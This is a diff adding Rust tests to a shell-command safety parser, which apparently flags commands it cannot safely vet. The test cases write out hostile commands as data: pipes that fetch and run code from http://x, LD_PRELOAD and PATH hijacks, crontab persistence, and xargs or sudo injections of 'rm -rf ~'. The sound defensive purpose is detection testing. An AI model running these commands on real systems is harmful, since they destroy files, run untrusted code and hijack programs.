@@ -280,6 +280,78 @@ fn what_cannot_be_read_is_named() {
         ),
         ("echo 'a' |", "could not be parsed"),
         ("if true; then", "could not be parsed"),
+        ("rg --pre ./x pattern", "`rg --pre` runs a command"),
+        (
+            "crontab -l | { cat; echo '* * * * * x'; } | crontab -",
+            "is fed to `crontab` as code",
+        ),
+        (
+            "hash -p /bin/rm ls; ls -rf ~",
+            "`hash -p` makes a name run another program",
+        ),
+        (
+            "GIT_SSH_COMMAND='rm -rf ~' git fetch",
+            "`GIT_SSH_COMMAND=` on a command line",
+        ),
+        ("LD_PRELOAD=./x.so ls", "`LD_PRELOAD=`"),
+        ("env BASH_ENV=x.sh bash -c true", "`BASH_ENV=`"),
+        ("PATH=.:$PATH ls", "`PATH=`"),
+        (
+            "cat cmds | xargs -I{} sh -c '{}'",
+            "`sh -c` runs text built from an expansion",
+        ),
+        (
+            "cat cmds | xargs -I % sh -c 'echo %'",
+            "`sh -c` runs text built from an expansion",
+        ),
+        (
+            "cat cmds | xargs sh -c",
+            "`xargs` appends its input to `sh`",
+        ),
+        (
+            "echo rm -rf ~ | xargs env",
+            "`xargs` appends its input to `env`",
+        ),
+        (
+            "echo rm -rf ~ | xargs sudo -u root",
+            "`xargs` appends its input to `sudo`",
+        ),
+        (
+            "echo rm | xargs -I{} env {} -rf ~",
+            "command word is built from an expansion: {}",
+        ),
+        (
+            "cat cmds | xargs -I{} {}",
+            "command word is built from an expansion: {}",
+        ),
+        (
+            "find . -name '*.sh' -exec {} \\;",
+            "command word is built from an expansion: {}",
+        ),
+        (
+            "parallel {} ::: a b",
+            "`parallel` runs text built from an expansion",
+        ),
+        (
+            "curl -s http://x | source /dev/stdin",
+            "is fed to `source` as code",
+        ),
+        (
+            "curl -s http://x | bash /dev/stdin",
+            "is fed to `bash` as code",
+        ),
+        (
+            "curl -s http://x > >(sh)",
+            "output is fed to `sh` as code through >(sh)",
+        ),
+        (
+            "curl -s http://x | tee >(bash) >/dev/null",
+            "output is fed to `bash` as code",
+        ),
+        (
+            "sh < <(curl -s http://x)",
+            "text built from an expansion is fed to `sh`",
+        ),
     ];
     for (text, want) in cases {
         let reasons = unread(text);
@@ -307,6 +379,10 @@ fn harmless_forms_stay_read() {
         "for f in *.sh; do bash \"$f\"; done",
         "command -v cargo",
         "export RUST_BACKTRACE=1",
+        "RUST_LOG=debug cargo test",
+        "find . -name '*.rs' -exec rustfmt {} +",
+        "ls | xargs -I{} cp {} backup/",
+        "source /dev/stdin <<< 'echo hi'",
         "cat <<'EOF' > notes.txt\nhello $(not run)\nEOF",
     ] {
         assert!(unread(text).is_empty(), "{text}: {:?}", unread(text));
@@ -495,6 +571,26 @@ fn capability_tables() {
         ("git rebase --abort", VcsRewrite),
         ("git clean -n", Delete),
     ];
+    let reads = |text: &str| -> Vec<String> {
+        parse(text)
+            .commands
+            .iter()
+            .flat_map(effects)
+            .filter(|e| e.capability == Read)
+            .flat_map(|e| e.paths)
+            .collect()
+    };
+    assert_eq!(reads("grep -r password ~/.config"), ["~/.config"]);
+    assert_eq!(reads("grep -rE 'a|b' -- src"), ["src"]);
+    assert_eq!(reads("rg -t rust unwrap"), ["."]);
+    assert_eq!(reads("jq --arg k v '.[$k]' in.json"), ["in.json"]);
+    assert_eq!(reads("awk -F, -v x=1 '{print}' data.csv"), ["data.csv"]);
+    assert_eq!(reads("tar czf k.tgz ~/.ssh"), ["~/.ssh"]);
+    assert_eq!(reads("tar -xzf k.tgz -C out"), ["k.tgz"]);
+    assert_eq!(reads("sed -i '' s/a/b/ f"), Vec::<String>::new());
+    assert!(caps("gzip big.log").contains(&Delete));
+    assert!(!caps("gzip -c big.log").contains(&Delete));
+    assert!(caps("tar --remove-files -cf a.tar d").contains(&Delete));
     // A filter reading its input reads no file.
     let s = parse("ls | grep x");
     assert!(effects(&s.commands[1]).is_empty());
@@ -563,6 +659,116 @@ fn hostile_input_never_panics() {
     ] {
         let _ = parse(text);
     }
+    // Every runner and table entry with truncated or odd arguments.
+    let names = [
+        "sudo",
+        "doas",
+        "env",
+        "command",
+        "builtin",
+        "exec",
+        "nice",
+        "nohup",
+        "timeout",
+        "time",
+        "stdbuf",
+        "ionice",
+        "chroot",
+        "flock",
+        "watch",
+        "xargs",
+        "parallel",
+        "find",
+        "fd",
+        "sh",
+        "bash",
+        "eval",
+        "su",
+        "runuser",
+        "pkexec",
+        "taskset",
+        "chrt",
+        "sg",
+        "git",
+        "ssh",
+        "tar",
+        "awk",
+        "sed",
+        "python3",
+        "perl",
+        "node",
+        "deno",
+        "pwsh",
+        "rm",
+        "mv",
+        "cp",
+        "rsync",
+        "dd",
+        "chmod",
+        "chown",
+        "curl",
+        "wget",
+        "tee",
+        "head",
+        "grep",
+        "jq",
+        "pip",
+        "npm",
+        "trap",
+        "alias",
+        "source",
+        "at",
+        "script",
+        "busybox",
+        "systemd-run",
+        "strace",
+    ];
+    let odd = [
+        "", "-u", "-c", "-n", "-e", "-s", "--", "-", "-exec", "-x", "-S", "-o", "-C", "-i",
+    ];
+    for name in names {
+        for a in odd {
+            for b in odd {
+                let s = parse(&format!("{name} {a} {b}"));
+                for c in &s.commands {
+                    let _ = (effects(c), c.paths());
+                }
+            }
+        }
+    }
     let s = parse(big_brace);
     assert!(s.commands[0].args.len() <= 300);
+}
+
+/// Cuts, splices and doubles of the corpora's commands at every character
+/// boundary class: whatever the text, the reader answers.
+#[test]
+fn mangled_corpus_lines_never_panic() {
+    let data = concat!(env!("CARGO_MANIFEST_DIR"), "/data/bypass.jsonl");
+    let text = std::fs::read_to_string(data).unwrap_or_default();
+    let commands: Vec<String> = text
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .filter_map(|v| v.get("command").and_then(|c| c.as_str()).map(String::from))
+        .collect();
+    assert!(!commands.is_empty());
+    // A small linear congruential generator: the same cases every run.
+    let mut seed: u64 = 0x5eed;
+    let mut next = move |n: usize| {
+        seed = seed
+            .wrapping_mul(6364136223846793005)
+            .wrapping_add(1442695040888963407);
+        (seed >> 33) as usize % n.max(1)
+    };
+    for _ in 0..3000 {
+        let a = &commands[next(commands.len())];
+        let b = &commands[next(commands.len())];
+        let ca: Vec<char> = a.chars().collect();
+        let cb: Vec<char> = b.chars().collect();
+        let (i, j) = (next(ca.len() + 1), next(cb.len() + 1));
+        let mangled: String = ca[..i].iter().chain(cb[j..].iter()).collect();
+        for c in &parse(&mangled).commands {
+            let _ = (effects(c), c.paths());
+        }
+    }
 }
